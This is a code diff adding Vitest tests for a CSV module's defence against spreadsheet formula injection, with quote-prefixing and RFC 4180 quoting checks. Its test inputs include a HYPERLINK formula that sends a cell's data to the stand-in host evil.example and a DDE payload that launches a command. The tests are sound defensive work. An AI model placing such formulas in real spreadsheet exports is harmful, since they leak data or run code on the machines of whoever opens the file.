@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { CsvParser } from "./csv";
+import { CsvParser, csvLine, spreadsheetSafeCell } from "./csv";
 import { diffLines } from "./diff";
 
 function parseAll(text: string, chunkSize = 3) {
@@ -41,5 +41,32 @@ describe("diffLines", () => {
       { kind: "same", text: "c" },
       { kind: "added", text: "d" },
     ]);
+  });
+});
+
+describe("spreadsheet-safe CSV (OWASP CSV injection)", () => {
+  it("puts a single quote before a cell that a spreadsheet would read as a formula", () => {
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "=cmd|' /C calc'!A0",
+      "+1+1",
+      "-2+3",
+      "-",
+      "@SUM(A1:A9)",
+      "\t=1+1",
+      "\r=1+1",
+    ];
+    for (const cell of formulas) expect(spreadsheetSafeCell(cell)).toBe(`'${cell}`);
+  });
+
+  it("leaves plain numbers and every other text as it is", () => {
+    for (const cell of ["-1.5", "+3", "-0", "2e-4", "-.5", "1.", "42", "", "a=b", " =1", "'=1", "x-y", "€5"])
+      expect(spreadsheetSafeCell(cell)).toBe(cell);
+  });
+
+  it("csvLine writes safe cells, quoted where RFC 4180 needs it, and they parse back with the quote", () => {
+    const line = csvLine(["=1+1", "-1.5", '@x,"y"', "\r=2", "ok"]);
+    expect(line).toBe(`'=1+1,-1.5,"'@x,""y""","'\r=2",ok\n`);
+    expect(parseAll(line).map((r) => r.fields)).toEqual([["'=1+1", "-1.5", `'@x,"y"`, "'\r=2", "ok"]]);
   });
 });
